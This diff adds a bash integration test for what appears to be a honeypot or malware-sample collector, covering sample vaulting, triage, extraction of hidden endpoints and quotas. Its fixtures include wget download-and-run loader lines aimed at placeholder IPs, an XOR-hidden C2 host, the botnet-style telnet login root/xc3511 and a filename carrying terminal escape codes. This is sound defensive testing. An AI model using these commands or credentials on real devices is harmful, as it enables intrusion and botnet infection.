@@ -1,0 +1,159 @@
+#!/bin/bash
+# Programs that attacks deliver, from the visitor's keys to the report: made by echo in a session, kept in the vault, read by
+# the confined worker; and programs that people add.
+set -uo pipefail
+# shellcheck source=tests/live/scenario.sh
+source "$TEITEN_SOURCE/tests/live/scenario.sh"
+needs python3 unzip sqlite3 pgrep
+visit=$TEITEN_SOURCE/tests/trap/visit.py
+
+# ask STATE PYTHON COMMAND...: whether it holds of the JSON document d
+ask() {
+    local state=$1 check=$2
+    shift 2
+    "$release" "$@" --json --state "$TMPDIR/$state" |
+        python3 -c "import json, sys; d = json.load(sys.stdin); sys.exit(not ($check))"
+}
+
+# Text that is hidden by a key lies in a file of its own making.
+make_files() {
+    python3 - "$TMPDIR" <<'END'
+import pathlib, random, sys
+folder = pathlib.Path(sys.argv[1])
+random.seed(5)
+table = b"\0".join([b"", b"/bin/busybox", b"http://192.0.2.77:81/bins/x", b"cnc.example.com", b"root", b"xc3511", b""])
+noise = random.randbytes(9000)
+(folder / "hidden").write_bytes(noise[:4000] + bytes(c ^ 0x54 for c in table) + noise[4000:])
+(folder / "loader.sh").write_text("#!/bin/sh\nfor a in mips arm7; do wget http://192.0.2.78/b/$a -O x; chmod 777 x; ./x; done\n")
+(folder / "empty").write_bytes(b"")
+(folder / "\x1b[31mred").write_text("cd /tmp; wget http://192.0.2.1/\x1b[2J; chmod +x a; ./a\n")
+with (folder / "large").open("wb") as f:
+    f.truncate((32 << 20) + 1)
+END
+}
+
+added() {
+    local added sha
+    make_files
+    "$TEITEN" sample add "$TMPDIR/hidden" "$TMPDIR/loader.sh" "$TMPDIR/empty" "$TMPDIR"/*red /bin/true --state "$TMPDIR/added" \
+        --json >"$TMPDIR/added.json" || fail "add: $?"
+    "$TEITEN" sample add "$TMPDIR/hidden" --state "$TMPDIR/added" --json | grep -q '"known":true' || fail "it is not known"
+    if "$TEITEN" sample add "$TMPDIR/large" "$TMPDIR" "$TMPDIR/nothing" --state "$TMPDIR/added" 2>"$TMPDIR/refused.log"; then
+        fail "what is no sample was added"
+    fi
+    (($(grep -c "^teiten: " "$TMPDIR/refused.log") == 3)) || fail "not all were refused"
+    ask added 'len(d) == 5 and all(s["kept"] for s in d)' samples || fail "samples: $("$release" samples --state "$TMPDIR/added")"
+    sha=$(sha256sum <"$TMPDIR/hidden" | cut -c1-64)
+    ask added "{'http://192.0.2.77:81/bins/x', 'cnc.example.com'} <= {e['text'] for e in d['endpoints'] if e['key'] == '54'}" \
+        sample "${sha:0:10}" || fail "what was hidden is not found: $("$release" sample "$sha" --state "$TMPDIR/added")"
+    ask added "d['log_ins'][0]['password'] == 'xc3511' and d['origins'][0]['how'] == 'added'" sample "$sha" || fail "log-ins"
+    sha=$(sha256sum <"$TMPDIR/loader.sh" | cut -c1-64)
+    ask added "sorted(e['text'] for e in d['endpoints'] if e['reason'] == 'script') == ['http://192.0.2.78/b/arm7', 'http://192.0.2.78/b/mips'] \
+        and {'loader_script'} <= {r['name'] for r in d['rules']}" sample "$sha" || fail "the loader is not read"
+    "$TEITEN" samples --limit 0 --state "$TMPDIR/added" | grep -q $'\x1b' && fail "a stranger's bytes reach the terminal"
+    "$TEITEN" sample "$sha" --state "$TMPDIR/added" | grep -q $'\x1b' && fail "a stranger's bytes reach the terminal"
+    "$TEITEN" sample "$sha" --save "$TMPDIR/x.zip" --state "$TMPDIR/added" || fail "save"
+    [[ $(unzip -p -P infected "$TMPDIR/x.zip" | sha256sum | cut -c1-64) == "$sha" ]] || fail "the ZIP file holds something else"
+    unzip -p -P wrong "$TMPDIR/x.zip" >/dev/null 2>&1 && fail "it opens without its password"
+    "$TEITEN" sample "$sha" --save "$TMPDIR/x.zip" --state "$TMPDIR/added" 2>/dev/null && fail "a file was overwritten"
+    "$TEITEN" sample 0123456789 --state "$TMPDIR/added" 2>/dev/null && fail "nothing is something"
+    added=$(stat -c %a "$TMPDIR"/added/vault/??/"$sha")
+    [[ $added == 400 ]] || fail "the vault's mode is $added"
+    "$release" verify --state "$TMPDIR/added" >/dev/null || fail "verify"
+}
+
+begin() {
+    local name=$1
+    shift
+    netns_start SENSOR "$TEITEN" observe --interface sensor0 --state "$TMPDIR/$name" --set trap.persona=hi3520-recorder \
+        --set trap.telnet=127.0.0.1:2323 --set trap.http=0.0.0.0:0 --set trap.netis=0.0.0.0:0 --set trap.login=any "$@" 2>>"$TMPDIR/$name.log"
+    observer=$netns_pid
+    until_true 20 said "$name" " started " || fail "$name does not begin"
+}
+
+end() {
+    netns_stop "$observer" || fail "$1 ended with $?"
+}
+
+# Writes a file by echo, as loaders do, and runs it. $1: letters that make it another.
+upload() {
+    netns_in SENSOR python3 - "$1" <<'END' || fail "the upload of $1"
+import socket, sys, time
+s = socket.create_connection(("127.0.0.1", 2323), 20)
+s.settimeout(20)
+def until(text):
+    got = b""
+    while text not in got:
+        piece = s.recv(4096)
+        if not piece:
+            sys.exit(f"ended at {got!r}")
+        got += piece
+until(b"login: ")
+s.sendall(b"root\r\n")
+until(b"assword: ")
+s.sendall(b"xc3511\r\n")
+until(b"$ ")
+head = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x28\x00\x01\x00\x00\x00"
+body = head + b"http://192.0.2.99/" + sys.argv[1].encode() + bytes(40)
+s.sendall(b"cd /tmp; >x; chmod 777 x\r\n")
+until(b"$ ")
+for at in range(0, len(body), 32):
+    s.sendall(b"echo -ne '" + b"".join(b"\\x%02x" % c for c in body[at:at + 32]) + b"' >> x\r\n")
+    until(b"$ ")
+s.sendall(b"./x; echo d\"\"one\r\n")
+until(b"done")
+s.sendall(b"exit\r\n")
+END
+}
+
+has_sample() {
+    ask "$1" "any(s['cpu'] == 'arm' and s['format'] == 'elf' for s in d)" samples
+}
+
+told_all() {
+    [[ $(sqlite3 -readonly "$TMPDIR/$1/teiten.db" "SELECT count(*)=$2 AND min(told)=1 FROM sample") == 1 ]]
+}
+
+# From the keys to the report; and who is killed meanwhile is started again.
+made() {
+    local session
+    begin made
+    upload one
+    until_true 30 has_sample made || fail "what was made is not told of: $("$release" samples --state "$TMPDIR/made")"
+    session=$("$release" sessions --json --state "$TMPDIR/made" | python3 -c 'import json, sys; print(json.load(sys.stdin)[0]["id"])')
+    ask made "len(d) == 1" samples --session "$session" || fail "the session does not lead to it"
+    ask made "d[0]['name'] == 'arm' and d[0]['sources'] == 1" top cpus || fail "top cpus"
+    until_true 15 ask made "any(w['name'] == 'triage' and w['pid'] for w in d['workers'])" status || fail "status does not tell of triage"
+    pkill -KILL -P "$observer" -f '^teiten-triage$' || fail "no triage is there to be killed"
+    upload two
+    until_true 60 told_all made 2 || fail "after the worker's death nothing is told"
+    until_true 15 ask made "any(w['name'] == 'triage' and w['restarts'] == 1 for w in d['workers'])" status || fail "it was not started again"
+    end made
+    "$release" verify --state "$TMPDIR/made" >/dev/null || fail "verify"
+    [[ $(find "$TMPDIR/made/vault" -type f | wc -l) == 2 ]] || fail "the vault: $(find "$TMPDIR/made/vault" -type f)"
+}
+
+# What is beyond the quota goes, the oldest of no session first; what triage told stays.
+quota() {
+    python3 - "$TMPDIR" <<'END'
+import pathlib, random, sys
+for i in range(3):
+    random.seed(i)
+    (pathlib.Path(sys.argv[1]) / f"big{i}").write_bytes(random.randbytes(600_000))
+END
+    "$TEITEN" sample add "$TMPDIR"/big? --state "$TMPDIR/quota" >/dev/null || fail "add"
+    begin quota --set sample.quota=1
+    until_true 20 eval '(($(find "$TMPDIR/quota/vault" -type f | wc -l) == 1))' || fail "the quota does not hold"
+    end quota
+    ask quota "len(d) == 3 and sum(s['kept'] for s in d) == 1" samples || fail "what was told is gone"
+    "$TEITEN" sample "$(sha256sum <"$TMPDIR/big0" | cut -c1-20)" --save "$TMPDIR/gone.zip" --state "$TMPDIR/quota" 2>"$TMPDIR/gone.log" &&
+        fail "what is gone was saved"
+    grep -q "no more" "$TMPDIR/gone.log" || fail "it is not said why"
+}
+
+# ONLY: some of them
+netns_up || fail "no namespaces"
+for what in ${ONLY:-added made quota}; do
+    "$what"
+done
+echo PASS
